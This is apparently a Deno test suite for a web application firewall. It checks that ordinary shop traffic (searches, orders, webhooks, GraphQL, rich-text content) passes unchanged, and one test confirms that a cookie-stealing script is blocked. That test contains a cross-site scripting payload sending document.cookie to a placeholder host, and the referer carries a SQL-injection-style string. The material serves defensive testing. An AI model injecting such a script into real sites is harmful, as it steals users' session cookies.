/** What honest people and programs send passes the gate: into the shop, and to a site behind it. */
import { assertEquals } from "@std/assert";
import { createTestApp, type TestApp } from "../_app.ts";
import { hashOf, serveTestSite } from "../routes/_attacks.ts";
import {
  GITHUB_WEBHOOK,
  GRAPHQL,
  LOGS,
  MARKDOWN,
  PEOPLE,
  SEARCHES,
  WYSIWYG,
} from "../threats/_honest_texts.ts";

const JSON_TYPE = "application/json";
const FORM_TYPE = "application/x-www-form-urlencoded";
const BROWSER = {
  "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  "accept-language": "de-DE,de;q=0.9,en;q=0.8",
  "cookie": "_ga=GA1.1.561242.136; CookieConsent={stamp:%27bUV0VXU0d%3D%27%2Cnecessary:true}",
  "referer": "https://www.google.com/search?q=o%27brien+or+1%3D1+t-shirt",
  "user-agent":
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
};
const LAMP = "hollis-table-lamp";
const EMBED = `${WYSIWYG}<script src="https://widgets.example/x.js"></script>`;

const form = (fields: Record<string, string>) => String(new URLSearchParams(fields));

Deno.test("every search of honest people is answered by the shop, as a page and as JSON", async () => {
  await using app = await createTestApp({ env: { LIMIT_STORE: "ip:100000/1m" } });
  for (const search of SEARCHES) {
    for (const query of [form({ q: search }), `q=${encodeURIComponent(search)}`]) {
      const page = await app.ask(`/us/products?${query}`, { headers: BROWSER });
      const list = await app.ask(`/us/products?${query}`, { headers: { accept: JSON_TYPE } });
      assertEquals([page.status, list.status], [200, 200], search);
    }
  }
});

Deno.test("people of ten languages order in the shop, as a form and as JSON", async () => {
  await using app = await createTestApp({ env: { LIMIT_STORE: "ip:100000/1m" } });
  for (const [at, [name, street, city]] of PEOPLE.entries()) {
    const email = `o'brien+${at}@example.com`;
    const address = { name, email, street, city, postcode: "10623", payment_method: "paypal" };
    const items = [{ product_id: LAMP, quantity: 1 }];
    const ordered = await app.ask("/de/orders", {
      method: "POST",
      headers: { accept: JSON_TYPE, "content-type": JSON_TYPE },
      body: JSON.stringify({ ...address, items }),
    });
    assertEquals(ordered.status, 201, `${city} ${ordered.text}`);
    const added = await app.ask("/de/cart", {
      method: "POST",
      headers: { ...BROWSER, "content-type": FORM_TYPE, "origin": "http://gate.example" },
      body: form({ product_id: LAMP, quantity: "1" }),
    });
    const [cart] = added.headers.getSetCookie().map((cookie) => cookie.split(";")[0]);
    const bought = await app.ask("/de/orders", {
      method: "POST",
      headers: {
        ...BROWSER,
        cookie: cart,
        "content-type": FORM_TYPE,
        origin: "http://gate.example",
      },
      body: form({ ...address, order_token: crypto.randomUUID() }),
    });
    assertEquals(bought.status, 303, `${city} ${bought.text}`);
  }
});

/** Method and path, content type, body, and further fields. */
type Sent = readonly [path: string, type: string, body: string, headers?: Record<string, string>];

const SENT: readonly Sent[] = [
  ["/articles", JSON_TYPE, JSON.stringify({ title: "Deploying", text: MARKDOWN })],
  ["/articles", FORM_TYPE, form({ title: "Deploying", text: MARKDOWN })],
  ["/articles", JSON_TYPE, JSON.stringify({ html: WYSIWYG })],
  ["/pages/7", JSON_TYPE, JSON.stringify({ title: "Our story", body_html: EMBED })],
  ["/pages/7", FORM_TYPE, form({ title: "Our story", body_html: EMBED })],
  ["/hooks/github", JSON_TYPE, GITHUB_WEBHOOK, {
    "accept": "*/*",
    "user-agent": "GitHub-Hookshot/044aadd",
    "x-github-event": "push",
    "x-github-delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
    "x-hub-signature-256":
      "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17",
  }],
  ["/hooks/github", FORM_TYPE, form({ payload: GITHUB_WEBHOOK })],
  ["/graphql", JSON_TYPE, GRAPHQL],
  [
    "/graphql",
    "application/graphql",
    'query { products(q: "O\'Brien") { id ... on Lamp { watts } } }',
  ],
  ...LOGS.map((line): Sent => ["/support", FORM_TYPE, form({ message: line })]),
  ...PEOPLE.map(([name, line, city, note], at): Sent => [
    "/checkout",
    JSON_TYPE,
    JSON.stringify({ name, email: `d'arc.${at}@example.com`, address: { line, city }, note }),
  ]),
  ...PEOPLE.map(([name, line, city, note]): Sent => [
    "/checkout",
    FORM_TYPE,
    form({ name, line, city, note }),
  ]),
];

async function openSite(): Promise<TestApp & { arrived: () => string | undefined }> {
  const site = serveTestSite();
  const app = await createTestApp({
    env: {
      ORIGIN_URL: site.url,
      THREAT_RULES: "POST /pages/*=enforce:body_html",
      LIMIT_STORE: "ip:100000/1m",
    },
  });
  return {
    ...app,
    arrived: () => site.arrivals.pop()?.hash,
    async [Symbol.asyncDispose]() {
      await app[Symbol.asyncDispose]();
      await site[Symbol.asyncDispose]();
    },
  };
}

Deno.test("what honest people and programs send arrives at the site, unchanged", async () => {
  await using app = await openSite();
  for (const [path, type, body, headers = BROWSER] of SENT) {
    const answer = await app.ask(path, {
      method: "POST",
      headers: {
        ...headers,
        "content-type": type,
        "content-length": String(new TextEncoder().encode(body).length),
      },
      body,
    });
    assertEquals(answer.status, 200, `${path} ${body}`);
    assertEquals(app.arrived(), await hashOf(new TextEncoder().encode(body)), path);
  }
});

Deno.test("an exempted field is exempt on its own path alone, and no other field is", async () => {
  await using app = await openSite();
  const post = async (path: string, fields: Record<string, string>, from: string) =>
    (await app.ask(path, {
      method: "POST",
      from,
      headers: { ...BROWSER, "content-type": JSON_TYPE },
      body: JSON.stringify(fields),
    })).status;
  const script = "<script>fetch('//x.example/'+document.cookie)</script>";
  assertEquals(await post("/pages/7", { body_html: WYSIWYG, title: script }, "198.51.100.1"), 403);
  assertEquals(await post("/articles", { body_html: script }, "198.51.100.2"), 403);
});

Deno.test("a GraphQL query in an address passes", async () => {
  await using app = await openSite();
  const { query, variables } = JSON.parse(GRAPHQL);
  const search = form({ query, variables: JSON.stringify(variables) });
  assertEquals((await app.ask(`/graphql?${search}`, { headers: BROWSER })).status, 200);
});
